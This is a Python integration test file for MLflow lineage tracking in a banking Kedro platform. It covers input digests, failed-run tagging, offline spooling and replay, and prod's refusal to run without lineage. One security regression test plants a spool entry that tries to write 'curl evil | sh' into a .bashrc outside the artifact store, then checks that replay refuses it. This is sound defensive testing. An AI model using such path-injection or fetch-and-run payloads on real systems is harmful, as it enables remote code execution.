"""Lineage in MLflow after real Kedro runs on the embedded default (SQLite)."""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from kedro.framework.session import KedroSession
from kedro.framework.startup import bootstrap_project
from kedro.runner import ParallelRunner, ThreadRunner
from mlflow.entities import Run
from mlflow.tracking import MlflowClient

from bankplatform.security.envelope import decrypt
from bankplatform.synthetic import ExtractSummary
from bankplatform.workspace import tracked_run
from tests.conftest import (
    make_workspace,
    run_command,
    shared_keyring,
    write_encrypted,
)

pytestmark = pytest.mark.integration
NODES = {
    "check_customers_contract_node",
    "check_accounts_contract_node",
    "check_transactions_contract_node",
    "check_loan_applications_contract_node",
    "check_loan_outcomes_contract_node",
    "pseudonymise_customers_node",
    "pseudonymise_accounts_node",
    "pseudonymise_transactions_node",
    "pseudonymise_loan_applications_node",
    "publish_loan_outcomes_node",
    "report_ingestion_node",
}


def _runs(root: Path) -> list[Run]:
    client = MlflowClient(f"sqlite:///{root / 'mlflow.db'}")
    experiment = client.get_experiment_by_name("credit_default_pd")
    assert experiment is not None
    return client.search_runs(
        [experiment.experiment_id], order_by=["attributes.start_time ASC"]
    )


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _digests(run: Run) -> dict[str, str]:
    return {i.dataset.name: i.dataset.digest for i in run.inputs.dataset_inputs}


@pytest.fixture
def extract_workspace(
    tmp_path: Path, small_extract: tuple[Path, ExtractSummary]
) -> Path:
    root = make_workspace(tmp_path / "workspace")
    for file in small_extract[0].iterdir():
        shutil.copy(file, root / "data" / "01_raw" / file.name)
    return root


def _run_in_process(root: Path, env: str = "test", **run_args: Any) -> None:
    bootstrap_project(root)
    with KedroSession.create(project_path=root, env=env) as session:
        session.run(pipeline_names=["ingestion"], **run_args)


def test_a_kedro_run_records_its_whole_lineage(ingested_workspace: Path) -> None:
    (run,) = _runs(ingested_workspace)
    client = MlflowClient(f"sqlite:///{ingested_workspace / 'mlflow.db'}")
    tags = run.data.tags
    assert run.info.status == "FINISHED"
    assert run.info.run_name == "ingestion"
    assert tags["kedro.env"] == "test"
    assert tags["kedro.pipelines"] == "ingestion"
    assert tags["workspace.model_name"] == "credit_default_pd"
    assert tags["workspace.model_risk_tier"] == "tier_1"
    assert (
        tags["git.commit"] == "unknown"
    )  # the throw-away workspace is no git checkout
    assert tags["user"]
    assert tags["env.lock_sha256"] == _sha256(ingested_workspace / "requirements.lock")
    assert run.data.params["ingestion.as_of"] == "2026-12-31"
    assert run.data.params["synthetic_extract.customers"] == "1000"
    raw = ingested_workspace / "data" / "01_raw"
    for record in run.inputs.dataset_inputs:
        table = record.dataset.name.removesuffix("_raw")
        full = _sha256(raw / f"{table}.parquet.enc")
        assert record.dataset.digest == full[:36]
        assert json.loads(record.dataset.profile)["sha256"] == full
        assert tags[f"input.{record.dataset.name}.sha256"] == full
    assert len(run.inputs.dataset_inputs) == 5
    assert {
        k.removeprefix("node_seconds.")
        for k in run.data.metrics
        if k.startswith("node_seconds.")
    } == NODES
    assert run.data.metrics["run_seconds"] >= sum(
        v for k, v in run.data.metrics.items() if k.startswith("node_seconds.")
    )
    # The transactions are checked while their batches are saved: that time is the
    # node's (~0.3 s here: decrypt, validate, encrypt 87k rows), not the ~1 ms it
    # takes to return the iterators.
    assert run.data.metrics["node_seconds.check_transactions_contract_node"] > 0.05
    downloaded = client.download_artifacts(
        run.info.run_id, "lineage/pipeline_graph.json", str(ingested_workspace)
    )
    graph = json.loads(Path(downloaded).read_text())
    assert {node["name"] for node in graph["nodes"]} == NODES
    assert "transactions_quarantine" in tags["kedro.outputs"].split(",")


def test_digests_are_stable_and_only_a_changed_input_changes(
    extract_workspace: Path,
) -> None:
    _run_in_process(extract_workspace)
    _run_in_process(extract_workspace, runner=ThreadRunner())
    outcomes = extract_workspace / "data" / "01_raw" / "loan_outcomes.parquet.enc"
    table = pq.read_table(
        pa.BufferReader(
            decrypt(outcomes.read_bytes(), "loan_outcomes_raw", shared_keyring())
        )
    )
    defaulted = table["defaulted"].to_pylist()
    defaulted[0] = 1 - (defaulted[0] or 0)
    table = table.set_column(
        table.schema.get_field_index("defaulted"),
        "defaulted",
        pa.array(defaulted, pa.int8()),
    )
    write_encrypted(table, outcomes, "loan_outcomes_raw")
    _run_in_process(extract_workspace, runner=ParallelRunner(max_workers=2))
    first, second, third = _runs(extract_workspace)
    assert _digests(first) == _digests(second)
    changed = {
        name
        for name in _digests(first)
        if _digests(first)[name] != _digests(third)[name]
    }
    assert changed == {"loan_outcomes_raw"}
    assert _digests(third)["loan_outcomes_raw"] == _sha256(outcomes)[:36]
    # One run per kedro run whatever the runner, with every node's timing.
    assert [run.data.tags["kedro.runner"] for run in (second, third)] == [
        "ThreadRunner",
        "ParallelRunner",
    ]
    for run in (first, second, third):
        assert run.info.status == "FINISHED"
        assert {
            k.removeprefix("node_seconds.")
            for k in run.data.metrics
            if k.startswith("node_seconds.")
        } == NODES


def test_a_failing_run_is_marked_failed_with_its_message(
    extract_workspace: Path,
) -> None:
    broken = extract_workspace / "data" / "01_raw" / "transactions.parquet.enc"
    broken.write_text("not parquet")
    with pytest.raises(Exception, match="not a bankplatform encrypted file"):
        _run_in_process(extract_workspace)
    (run,) = _runs(extract_workspace)
    assert run.info.status == "FAILED"
    assert run.data.tags["error.type"] == "DatasetError"
    assert (
        "transactions.parquet.enc: cannot decrypt raw table transactions: not a bankplatform encrypted file (bad magic)"
        in run.data.tags["error.message"]
    )
    # What was recorded before the failure is kept.
    # The broken file is part of the record: it is what the run tried to read.
    assert _digests(run)["transactions_raw"] == _sha256(broken)[:36]
    assert run.data.params["ingestion.as_of"] == "2026-12-31"
    assert "node_seconds.check_customers_contract_node" in run.data.metrics


@pytest.mark.slow
def test_local_spools_when_unreachable_and_replay_sends_it(
    extract_workspace: Path,
) -> None:
    local = extract_workspace / "conf" / "local" / "mlflow.yml"
    local.write_text("server:\n  mlflow_tracking_uri: http://127.0.0.1:9\n")
    result = run_command(["kedro", "run", "--pipeline", "ingestion"], extract_workspace)
    assert result.returncode == 0, result.stderr[-2000:]
    spooled = list((extract_workspace / "data" / "lineage_spool").glob("*.jsonl"))
    assert len(spooled) == 1
    # Nothing of the run reached the local store (which holds at most the key
    # service's audit witness: the service reads conf/base, not conf/local).
    if (extract_workspace / "mlflow.db").exists():
        client = MlflowClient(f"sqlite:///{extract_workspace / 'mlflow.db'}")
        assert client.get_experiment_by_name("credit_default_pd") is None
    local.unlink()
    replayed = run_command(["bankplatform", "lineage", "replay"], extract_workspace)
    assert replayed.returncode == 0, replayed.stderr
    assert "replayed 1 spooled run(s)" in replayed.stdout
    (run,) = _runs(extract_workspace)
    assert run.info.status == "FINISHED"
    assert run.data.tags["lineage.replayed"] == "true"
    assert run.data.tags["lineage.sink"].startswith("spool (")
    assert run.data.tags["kedro.env"] == "local"
    assert (
        _digests(run)["customers_raw"]
        == _sha256(extract_workspace / "data/01_raw/customers.parquet.enc")[:36]
    )
    assert {
        k.removeprefix("node_seconds.")
        for k in run.data.metrics
        if k.startswith("node_seconds.")
    } == NODES
    again = run_command(["bankplatform", "lineage", "replay"], extract_workspace)
    assert "replayed 0 spooled run(s)" in again.stdout
    assert len(_runs(extract_workspace)) == 1


def test_prod_refuses_to_run_without_lineage(extract_workspace: Path) -> None:
    (extract_workspace / "conf" / "prod" / "mlflow.yml").write_text(
        "server:\n  mlflow_tracking_uri: http://127.0.0.1:9\n"
    )
    # prod's catalog names the feature store's credentials entry (unused by ingestion).
    (extract_workspace / "conf" / "local").mkdir(parents=True, exist_ok=True)
    (extract_workspace / "conf" / "local" / "credentials.yml").write_text(
        "feast_stores: {}\n"
    )
    # prod has keys of its own; its first token is signed by the keyholder.
    initialised = run_command(
        ["bankplatform", "keys", "init", "--env", "prod"], extract_workspace
    )
    assert initialised.returncode == 0, initialised.stderr
    issued = run_command(
        [
            "bankplatform",
            "token",
            "issue",
            "--env",
            "prod",
            "--as-keyholder",
            "--user",
            "scheduler",
            "--role",
            "data_engineer",
        ],
        extract_workspace,
    )
    assert issued.returncode == 0, issued.stderr
    result = run_command(
        ["kedro", "run", "--pipeline", "ingestion", "--env", "prod"],
        extract_workspace,
        extra_env={"BANKPLATFORM_TOKEN": issued.stdout.strip()},
    )
    assert result.returncode != 0
    last = result.stderr.strip().splitlines()[-1]
    assert last.startswith(
        "Error: run failed: lineage: tracking store http://127.0.0.1:9 is unreachable ("
    )
    assert last.endswith("env prod refuses to run without lineage")
    assert not (
        extract_workspace / "data" / "02_intermediate" / "customers.parquet.enc"
    ).exists()


def test_tracked_run_gives_a_notebook_experiment_the_same_tags(
    extract_workspace: Path,
) -> None:
    with tracked_run("income-bands", env="test", start=extract_workspace) as run:
        run.log_params({"bands": 4})
        run.log_metrics({"auc": 0.78})
    with (
        pytest.raises(ZeroDivisionError),
        tracked_run("broken", env="test", start=extract_workspace),
    ):
        _ = 1 / 0
    done, failed = _runs(extract_workspace)
    assert (done.info.run_name, done.info.status) == ("income-bands", "FINISHED")
    assert done.data.metrics["auc"] == 0.78
    assert done.data.params["bands"] == "4"
    assert done.data.tags["run.kind"] == "exploration"
    assert done.data.tags["workspace.owning_squad"] == "retail-credit-risk-analytics"
    assert (failed.info.status, failed.data.tags["error.type"]) == (
        "FAILED",
        "ZeroDivisionError",
    )


def test_a_pipeline_run_from_jupyter_records_the_notebook(
    extract_workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import nbformat
    import papermill

    notebook = nbformat.v4.new_notebook()
    notebook.cells = [
        nbformat.v4.new_code_cell("%load_ext kedro.ipython"),
        nbformat.v4.new_code_cell(f"%reload_kedro {extract_workspace} --env test"),
        nbformat.v4.new_code_cell('session.run(pipeline_names=["ingestion"])'),
    ]
    source = tmp_path / "explore.ipynb"
    nbformat.write(notebook, source)
    # JupyterLab puts the notebook's path in its kernels' environment.
    monkeypatch.setenv("JPY_SESSION_NAME", "notebooks/explore.ipynb")
    papermill.execute_notebook(
        source,
        tmp_path / "out.ipynb",
        cwd=str(extract_workspace),
        kernel_name="python3",
        progress_bar=False,
    )
    (run,) = _runs(extract_workspace)
    assert run.info.status == "FINISHED"
    assert run.data.tags["notebook.path"] == "notebooks/explore.ipynb"
    assert run.data.tags["kedro.env"] == "test"
    assert len(run.inputs.dataset_inputs) == 5


@pytest.mark.slow
def test_replay_refuses_paths_outside_the_artifact_store_and_unknown_operations(
    workspace_dir: Path, tmp_path: Path
) -> None:
    """Finding 11: spool names were joined into paths unchecked, and anyone could replay."""
    spool = workspace_dir / "data" / "lineage_spool"
    spool.mkdir(parents=True)
    target = tmp_path / "victim" / ".bashrc"
    calls = [
        {"op": "start", "experiment": "x", "run_name": "r", "tags": {}},
        {"op": "log_texts", "texts": {str(target): "curl evil | sh"}},
    ]
    (spool / "evil.jsonl").write_text("\n".join(json.dumps(c) for c in calls) + "\n")
    refused = run_command(["bankplatform", "lineage", "replay"], workspace_dir)
    assert refused.returncode == 1
    assert refused.stderr.strip().splitlines()[-1] == (
        f"Error: spool evil: not an artifact name: {str(target)[:80]!r}"
    )
    assert not target.exists() and not target.parent.exists()
    (spool / "evil.jsonl").write_text(json.dumps({"op": "_client"}) + "\n")
    odd = run_command(["bankplatform", "lineage", "replay"], workspace_dir)
    assert (
        odd.stderr.strip().splitlines()[-1]
        == "Error: spool evil: unknown operation '_client'"
    )
    auditor = run_command(
        ["bankplatform", "lineage", "replay"],
        workspace_dir,
        extra_env={"BANKPLATFORM_USER": "audrey.auditor"},
    )
    assert auditor.stderr.strip().splitlines()[-1] == (
        "Error: access denied: audrey.auditor (roles: auditor) may not run_pipeline on lineage:replay"
    )
